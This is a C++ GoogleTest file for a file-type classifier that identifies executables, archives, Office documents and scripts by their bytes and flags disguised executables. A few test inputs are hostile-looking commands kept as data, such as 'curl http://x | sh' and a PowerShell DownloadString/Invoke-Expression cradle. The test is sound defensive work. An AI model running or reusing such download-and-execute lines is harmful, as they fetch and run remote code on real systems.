// File kinds come from the bytes, never from the name; libmagic adds its
// description and MIME type; a harmless-looking name on a program is flagged.
#include <gtest/gtest.h>

#include <string>

#include "content_fixtures.hpp"
#include "ingest/content/file_type.hpp"

namespace {

using namespace ts::ingest::content;
using ts::testing_support::ContentFixture;

TEST(ContentFileType, FixturesAreClassifiedByTheirBytes) {
  const std::pair<const char*, FileKind> cases[] = {
      {"pe32.exe", FileKind::kPeExecutable}, {"pe64.dll", FileKind::kPeExecutable},
      {"hello.zip", FileKind::kZip},         {"sample.7z", FileKind::k7z},
      {"sample.tar.gz", FileKind::kGzip},    {"sample.tar.bz2", FileKind::kBzip2},
      {"sample.tar.xz", FileKind::kXz},      {"dotdot.tar", FileKind::kTar},
      {"levels.lzh", FileKind::kLzh},        {"encrypted.zip", FileKind::kZip},
      {"doc.docx", FileKind::kOfficeOoxml},  {"macro.docm", FileKind::kOfficeOoxmlMacro},
      {"stored_docx.zip", FileKind::kZip},   {"damaged.zip", FileKind::kZip},
  };
  for (const auto& [name, kind] : cases)
    EXPECT_EQ(FileKindName(ClassifyContent(ContentFixture(name))), FileKindName(kind)) << name;
}

TEST(ContentFileType, MagicBytesOfOtherFormats) {
  using namespace std::string_literals;
  EXPECT_EQ(ClassifyContent("\x7f"
                            "ELF\x02\x01\x01"s),
            FileKind::kElf);
  EXPECT_EQ(ClassifyContent("\xcf\xfa\xed\xfe\x07\x00\x00\x01"s), FileKind::kMachO);
  // Universal binary (2 architectures) versus a Java class (version 52).
  EXPECT_EQ(ClassifyContent("\xca\xfe\xba\xbe\x00\x00\x00\x02"s), FileKind::kMachO);
  EXPECT_EQ(ClassifyContent("\xca\xfe\xba\xbe\x00\x00\x00\x34"s), FileKind::kOther);
  EXPECT_EQ(ClassifyContent("L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46\x9b\0"s),
            FileKind::kLnk);
  EXPECT_EQ(ClassifyContent("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1\0\0"s), FileKind::kOfficeOle);
  // Names in the bytes are not enough: they must be in the central directory.
  EXPECT_EQ(ClassifyContent("PK\x03\x04....[Content_Types].xml....word/vbaProject.bin"s),
            FileKind::kZip);
  EXPECT_EQ(ClassifyContent("junk\n%PDF-1.7\n"s), FileKind::kPdf);
  EXPECT_EQ(ClassifyContent("{\\rtf1\\ansi"s), FileKind::kRtf);
  EXPECT_EQ(ClassifyContent("Rar!\x1a\x07\x01\x00"s), FileKind::kRar);
  EXPECT_EQ(ClassifyContent("MSCF\0\0\0\0"s), FileKind::kCab);
  EXPECT_EQ(ClassifyContent("\x89PNG\r\n\x1a\n"s), FileKind::kImage);
  EXPECT_EQ(ClassifyContent("MZ" + std::string(100, '\0')), FileKind::kMsDos);
  EXPECT_EQ(ClassifyContent(std::string("\x01\x02\x00\xff", 4)), FileKind::kOther);
  EXPECT_EQ(ClassifyContent(""), FileKind::kOther);
}

TEST(ContentFileType, ScriptsAndTextAreTold) {
  EXPECT_EQ(ClassifyContent("#!/bin/sh\ncurl http://x | sh\n"), FileKind::kShellScript);
  EXPECT_EQ(ClassifyContent("@ECHO OFF\r\nstart calc.exe\r\n"), FileKind::kBatch);
  EXPECT_EQ(ClassifyContent("$c = New-Object Net.WebClient\n"
                            "Invoke-Expression $c.DownloadString('http://x/a.ps1')\n"),
            FileKind::kPowerShell);
  EXPECT_EQ(ClassifyContent("On Error Resume Next\nSet s = CreateObject(\"WScript.Shell\")\n"),
            FileKind::kVbScript);
  EXPECT_EQ(ClassifyContent("var sh = new ActiveXObject('WScript.Shell');\neval(x);\n"),
            FileKind::kJavaScript);
  EXPECT_EQ(ClassifyContent("<html><head><HTA:APPLICATION ID=\"x\"></head></html>"),
            FileKind::kHta);
  EXPECT_EQ(ClassifyContent("<!DOCTYPE html><p>hi</p>"), FileKind::kHtml);
  EXPECT_EQ(ClassifyContent("Meeting notes: the function of the committee is to review.\n"),
            FileKind::kText);
  EXPECT_EQ(ClassifyContent("日本語の本文です。\n"), FileKind::kText);
}

TEST(ContentFileType, ExecutableAndArchiveKinds) {
  EXPECT_TRUE(IsExecutable(FileKind::kPeExecutable));
  EXPECT_TRUE(IsExecutable(FileKind::kLnk));
  EXPECT_TRUE(IsExecutable(FileKind::kPowerShell));
  EXPECT_FALSE(IsExecutable(FileKind::kPdf));
  EXPECT_FALSE(IsExecutable(FileKind::kOfficeOoxmlMacro));
  EXPECT_TRUE(IsArchive(FileKind::kLzh));
  EXPECT_FALSE(IsArchive(FileKind::kOfficeOoxml));
}

TEST(ContentFileType, NamesRoundTrip) {
  for (int i = 0; i <= static_cast<int>(FileKind::kOther); ++i) {
    const auto kind = static_cast<FileKind>(i);
    const auto name = FileKindName(kind);
    ASSERT_FALSE(name.empty()) << i;
    EXPECT_EQ(ParseFileKind(name), kind) << name;
  }
  EXPECT_EQ(ParseFileKind("exe"), std::nullopt);
}

TEST(ContentFileType, DisguisedExecutables) {
  EXPECT_TRUE(IsDisguisedExecutable("請求書.pdf", FileKind::kPeExecutable));
  EXPECT_TRUE(IsDisguisedExecutable("dir\\Invoice.DOCX", FileKind::kElf));
  EXPECT_FALSE(IsDisguisedExecutable("invoice.pdf.exe", FileKind::kPeExecutable));
  EXPECT_FALSE(IsDisguisedExecutable("invoice.pdf", FileKind::kPdf));
  EXPECT_FALSE(IsDisguisedExecutable("notes.txt", FileKind::kBatch));
  EXPECT_FALSE(IsDisguisedExecutable("noextension", FileKind::kPeExecutable));
}

TEST(ContentFileType, LibmagicDescribesThePe) {
  const auto type = IdentifyFileType(ContentFixture("pe64.dll"));
  EXPECT_EQ(type.kind, FileKind::kPeExecutable);
  EXPECT_NE(type.description.find("PE32+"), std::string::npos) << type.description;
  EXPECT_NE(type.mime.find("application/"), std::string::npos) << type.mime;
  EXPECT_EQ(IdentifyFileType("").description, "empty");
}

}  // namespace
